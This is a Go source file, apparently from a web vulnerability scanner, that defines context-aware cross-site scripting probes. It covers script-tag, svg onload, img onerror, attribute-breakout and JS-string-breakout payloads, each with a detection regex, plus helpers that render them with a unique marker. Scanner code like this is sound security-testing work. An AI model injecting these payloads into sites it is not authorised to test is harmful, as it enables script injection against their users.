package payloads

import (
	"regexp"
	"strings"
)

// XSSContext is where reflected input lands in the page.
type XSSContext string

const (
	ContextHTMLBody  XSSContext = "html-body"
	ContextAttribute XSSContext = "attribute"
	ContextScript    XSSContext = "script"
	// ContextInertText is text the parser never reads as markup: the contents of
	// textarea, title and style elements, and comments.
	ContextInertText XSSContext = "inert-text"
)

// XSSMarkerPlaceholder is replaced with a unique marker by the scanner.
const XSSMarkerPlaceholder = "KALKI_MARKER"

// XSSTest represents a single context-aware XSS test case.
type XSSTest struct {
	// PayloadTemplate is injected after the placeholder is replaced.
	PayloadTemplate string
	// DetectionRegex matches the payload only where it would execute. The placeholder is
	// replaced with the quoted marker before compiling.
	DetectionRegex string
	Description    string
	Context        XSSContext
}

// Render returns the payload and its compiled detector for marker.
func (t XSSTest) Render(marker string) (string, *regexp.Regexp) {
	payload := strings.ReplaceAll(t.PayloadTemplate, XSSMarkerPlaceholder, marker)
	detector := regexp.MustCompile(strings.ReplaceAll(t.DetectionRegex, XSSMarkerPlaceholder, regexp.QuoteMeta(marker)))
	return payload, detector
}

// XSSTests are grouped by context; within a context the order is the probe order.
var XSSTests = []XSSTest{
	// html-body
	{
		PayloadTemplate: `<script>KALKI_MARKER</script>`,
		DetectionRegex:  `(?i)<script>KALKI_MARKER</script>`,
		Description:     "Basic script tag injection",
		Context:         ContextHTMLBody,
	},
	{
		PayloadTemplate: `<svg/onload=alert('KALKI_MARKER')>`,
		DetectionRegex:  `(?i)<svg/onload=alert\('KALKI_MARKER'\)>`,
		Description:     "SVG tag with onload event handler",
		Context:         ContextHTMLBody,
	},
	{
		PayloadTemplate: `<details/open/ontoggle=alert('KALKI_MARKER')>`,
		DetectionRegex:  `(?i)<details/open/ontoggle=alert\('KALKI_MARKER'\)>`,
		Description:     "details tag with ontoggle event handler",
		Context:         ContextHTMLBody,
	},
	{
		PayloadTemplate: `<iMg sRc=x oNeRrOr=alert('KALKI_MARKER')>`,
		DetectionRegex:  `(?i)<img\s+src=x\s+onerror=alert\('KALKI_MARKER'\)>`,
		Description:     "Event handler with mixed case",
		Context:         ContextHTMLBody,
	},
	{
		PayloadTemplate: `<img/src=x/onerror=alert('KALKI_MARKER')>`,
		DetectionRegex:  `(?i)<img/src=x/onerror=alert\('KALKI_MARKER'\)>`,
		Description:     "Tag obfuscation with slashes instead of spaces",
		Context:         ContextHTMLBody,
	},

	// attribute
	{
		PayloadTemplate: `"><script>KALKI_MARKER</script>`,
		DetectionRegex:  `(?i)"><script>KALKI_MARKER</script>`,
		Description:     "Breaking out of a double-quoted HTML attribute",
		Context:         ContextAttribute,
	},
	{
		PayloadTemplate: `'><script>KALKI_MARKER</script>`,
		DetectionRegex:  `(?i)'><script>KALKI_MARKER</script>`,
		Description:     "Breaking out of a single-quoted HTML attribute",
		Context:         ContextAttribute,
	},
	{
		PayloadTemplate: `"><svg/onload=alert('KALKI_MARKER')>`,
		DetectionRegex:  `(?i)"><svg/onload=alert\('KALKI_MARKER'\)>`,
		Description:     "SVG-based breakout from a double-quoted HTML attribute",
		Context:         ContextAttribute,
	},
	{
		PayloadTemplate: `" autofocus onfocus=alert('KALKI_MARKER') x="`,
		DetectionRegex:  `(?i)"\s*autofocus onfocus=alert\('KALKI_MARKER'\)`,
		Description:     "Injects an onfocus event handler into a double-quoted attribute",
		Context:         ContextAttribute,
	},
	{
		PayloadTemplate: `' onmouseover=alert('KALKI_MARKER') x='`,
		DetectionRegex:  `(?i)'\s*onmouseover=alert\('KALKI_MARKER'\)`,
		Description:     "Injects an onmouseover event handler into a single-quoted attribute",
		Context:         ContextAttribute,
	},

	// script
	{
		PayloadTemplate: `'-alert('KALKI_MARKER')-'`,
		DetectionRegex:  `(?i)'-alert\('KALKI_MARKER'\)-'`,
		Description:     "Breaking out of a JS string with single quotes",
		Context:         ContextScript,
	},
	{
		PayloadTemplate: `";alert('KALKI_MARKER');//`,
		DetectionRegex:  `(?i)";alert\('KALKI_MARKER'\);//`,
		Description:     "Breaking out of a JS string with double quotes",
		Context:         ContextScript,
	},
	{
		PayloadTemplate: "`;alert('KALKI_MARKER');//",
		DetectionRegex:  "(?i)`;alert\\('KALKI_MARKER'\\);//",
		Description:     "Breaking out of a template literal",
		Context:         ContextScript,
	},
	{
		PayloadTemplate: `</script><script>KALKI_MARKER</script>`,
		DetectionRegex:  `(?i)</script><script>KALKI_MARKER</script>`,
		Description:     "Closing the script block and opening a new one",
		Context:         ContextScript,
	},
}

// XSSTestsFor returns the tests of one context in declared order.
func XSSTestsFor(ctx XSSContext) []XSSTest {
	var out []XSSTest
	for _, t := range XSSTests {
		if t.Context == ctx {
			out = append(out, t)
		}
	}
	return out
}

// BreakoutTests returns the html-body tests prefixed with closer, the markup that ends
// the inert element holding the reflection ("</textarea>", "-->"). The detectors
// require the closer, so an encoded breakout never matches.
func BreakoutTests(closer string) []XSSTest {
	var out []XSSTest
	for _, t := range XSSTestsFor(ContextHTMLBody) {
		out = append(out, XSSTest{
			PayloadTemplate: closer + t.PayloadTemplate,
			DetectionRegex:  `(?i)` + regexp.QuoteMeta(closer) + strings.TrimPrefix(t.DetectionRegex, `(?i)`),
			Description:     "Closing " + closer + " before: " + t.Description,
			Context:         ContextInertText,
		})
	}
	return out
}
